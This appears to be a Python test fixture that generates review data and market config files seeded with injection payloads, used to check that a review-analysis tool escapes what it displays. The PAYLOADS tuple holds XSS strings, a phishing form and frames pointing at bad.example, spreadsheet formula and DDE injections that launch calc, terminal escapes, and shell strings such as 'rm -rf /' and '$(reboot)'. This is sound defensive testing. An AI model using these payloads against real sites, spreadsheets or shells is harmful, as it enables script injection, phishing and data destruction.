"""Words that attack whatever shows them, in a market that is otherwise ordinary: reviews, names, keywords, themes."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from tests.collect.local_sites import words

ESC = "\x1b"
PAYLOADS = (
    "<script>window.pwned=1;alert(1)</script>",
    "</script><script>window.pwned=2</script>",
    "<img src=x onerror='window.pwned=3'>",
    "<svg/onload=window.pwned=4>",
    "<a href='javascript:window.pwned=5'>refund here</a>",
    "<iframe src=http://bad.example/frame></iframe>",
    "<style>*{display:none}@import url(http://bad.example/x.css)</style>",
    "<link rel=stylesheet href=http://bad.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://bad.example/'>",
    "<form action=http://bad.example/><input name=card></form>",
    '"onmouseover="window.pwned=6" x="',
    "'-window.pwned=7-'",
    "--><script>window.pwned=8</script><!--",
    "]]><script>window.pwned=9</script>",
    "{{7*7}} {% for x in y %} {{ config }} ${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("http://bad.example?x="&A1,"refund")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "\uff1d1+1",
    "![pixel](http://bad.example/pixel.png)",
    "[your refund](javascript:window.pwned=10)",
    "[your refund][1]\n\n[1]: http://bad.example/",
    "<http://bad.example/auto>",
    "```\n# heading\n```\n- list | cell | cell",
    "# Heading\n\n---\n\n<b>bold</b>",
    f"{ESC}]8;;http://bad.example/{ESC}\\refund{ESC}]8;;{ESC}\\",
    f"{ESC}[2J{ESC}[31mred{ESC}]0;title\x07",
    "\x9b2J\x9d0;title\x9c",
    "bell\x07 back\x08\x08 null\x00 del\x7f",
    "\u202egnp.eciovni\u202c \u2066isolated\u2069",
    "zero\u200bwidth\ufeffjoined\u2060",
    "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c",
    "lone \ufffe\uffff and \U000e0041tags",
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" } { INCLUDEPICTURE "http://bad.example/x" }',
    "[bold]rich[/bold] [link=http://bad.example/]refund[/link] [/]",
    "datum.constructor.constructor('window.pwned=11')()",
    '{"signal": "window.pwned=12", "url": "http://bad.example/data.json"}',
    "\\input{/etc/passwd} $(reboot) `reboot` ; rm -rf / %n%s",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.pwned=13</x:script>",
    "&lt;script&gt;window.pwned=14&lt;/script&gt; &amp;lt;script&amp;gt;",
)
"""Each stands in front of words that a reader should still see."""
NAMES = {
    "acme": "Acme <script>window.pwned=20</script>",
    "bolt": '=HYPERLINK("http://bad.example","Bolt")',
    "crate": f"Crate [bold]x[/] {ESC}[2J\u202e </title> {{{{7*7}}}}",
}
MARKET = 'Lockers "</title><img src=x onerror=window.pwned=21>" {{7*7}} [red]x[/red]'
KEYWORD = '=1+1 <b onmouseover=window.pwned=22>locker</b> [link=http://bad.example/]x[/link]'  # fmt: skip
LABEL = "Lost <img src=x onerror=window.pwned=23> [x](javascript:window.pwned=24) {{7*7}} =1+1"


def said(number: int) -> str:
    """The readable part of review ``number``."""
    return f"The parcel number {number} arrived far too late and nobody answered the phone."


def reviews() -> list[dict[str, str]]:
    """Three brands, each with every payload twice; ordinary reviews between them."""
    rows = []
    number = 0
    for brand in NAMES:
        for turn in range(2):
            for payload in PAYLOADS:
                number += 1
                rows.append(
                    {
                        "brand": brand,
                        "text": f"{payload} {said(number)}",
                        "title": payload if turn else "Late",
                        "rating": str(1 + number % 2),
                        "published": f"2025-{number % 12 + 1:02d}-{number % 28 + 1:02d}",
                        "source": "reviews.example",
                        "author": f"{payload} {number}",
                        "url": "javascript:alert(1)" if number % 3 else f"https://reviews.example/{number}?<script>",
                        "reply_text": payload,
                    }
                )
        for turn in range(25):
            number += 1
            rows.append(
                {
                    "brand": brand,
                    "text": f"Friendly staff. {words(number)}",
                    "title": "Fine",
                    "rating": "5",
                    "published": f"2025-{number % 12 + 1:02d}-{turn + 1:02d}",
                    "source": "reviews.example",
                    "author": f"Customer {number}",
                    "url": "",
                    "reply_text": "",
                }
            )
    return rows


def write_reviews(file: Path) -> list[dict[str, str]]:
    """As JSON Lines or CSV; returned are the rows."""
    rows = reviews()
    if file.suffix == ".jsonl":
        file.write_text("\n".join(json.dumps(row) for row in rows), encoding="utf-8")
        return rows
    with file.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return rows


def toml(text: str) -> str:
    """A TOML string."""
    return json.dumps(text).replace("\x7f", "\\u007f")


def market_file(folder: Path, *, port: int) -> Path:
    """market.toml and taxonomy.toml of the hostile market; bolt's reviews are crawled as well."""
    brands = "".join(
        f'[[brand]]\nid = "{brand}"\nname = {toml(name)}\ndomains = ["{brand}.localhost:{port}"]\n'
        + (f'reviews = ["http://bolt.localhost:{port}/"]\n' if brand == "bolt" else "")
        for brand, name in NAMES.items()
    )
    (folder / "taxonomy.toml").write_text(
        f'[[theme]]\nid = "lost_parcels"\nlabel = {toml(LABEL)}\nseeds = ["arrived far too late", "parcel arrived too late"]\n',
        encoding="utf-8",
    )
    file = folder / "market.toml"
    file.write_text(
        f'[market]\nname = {toml(MARKET)}\nown = "acme"\n{brands}\n[[keyword]]\ntext = {toml(KEYWORD)}\nvolume = 100\n'
        f'[crawl]\ndelay = 0.0\nrender = "never"\nallow_private = ["*.localhost"]\n'
        f'[analysis]\ntaxonomy = "taxonomy.toml"\n[alert]\nlog = "alerts.log"\n',
        encoding="utf-8",
    )
    return file
